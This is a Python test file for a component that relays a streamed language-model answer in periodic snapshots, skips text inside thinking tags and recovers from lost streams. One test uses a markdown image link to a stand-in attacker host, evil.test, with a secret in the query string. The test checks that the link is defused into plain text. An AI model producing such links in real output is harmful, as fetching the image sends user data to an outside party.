"""An answer as it grows."""

from hypothesis import given
from hypothesis import strategies as st

from batonmcp.llm.port import CallBegun, StreamLost, TextGrew
from batonmcp.stages.growth import Growth


def told(*parts: str) -> list[str]:
    """Return what is told of a text that comes in these parts."""
    lines: list[str] = []
    growth = Growth(lines.append)
    for part in parts:
        growth.hear(TextGrew(part))
    return lines


def test_it_is_told_as_it_grows() -> None:
    """Not for every token, but time and again, each time its end."""
    words = [f"word{number} " for number in range(40)]
    lines = told(*words)
    assert 5 < len(lines) < 20
    assert all("".join(words).startswith(line) for line in lines)


def test_long_answers_are_told_less_often() -> None:
    """However long it is, what is told stays short, and how often grows slowly."""
    lines = told(*("x" * 10 for _ in range(20_000)))
    assert len(lines) < 500
    assert max(map(len, lines)) == 400


def test_thoughts_are_not_told() -> None:
    """What stands in tags of thoughts is skipped, ended or not."""
    thought = ["<think>", "It may rain, or it may not, I wonder. ", "Perhaps. " * 9]
    assert told(*thought) == []
    assert told(
        *thought, "</think>", "It rains in Oslo today, and it will rain tomorrow as well, says the report."
    ) == ["It rains in Oslo today, and it will rain tomorrow as well, says the report."]


def test_nothing_is_loaded_by_showing_it() -> None:
    """Images become words, as in the answer itself."""
    (line,) = told("See ![chart](https://evil.test/?q=secret) and so on and so forth.")
    assert "![" not in line
    assert "(image: chart: https://evil.test/?q=secret)" in line


def test_lost_stream_begins_anew() -> None:
    """What was written by a reply that failed is told no more."""
    lines: list[str] = []
    growth = Growth(lines.append)
    for piece in (TextGrew("a" * 30), StreamLost(), CallBegun(0, "x"), TextGrew("b" * 10), TextGrew("b" * 20)):
        growth.hear(piece)
    assert lines == ["a" * 30, "b" * 30]


@given(st.lists(st.text(st.characters(codec=None), max_size=60), max_size=10))
def test_any_text_can_be_sent(parts: list[str]) -> None:
    """Halves of characters do not get through."""
    for line in told(*parts):
        line.encode()
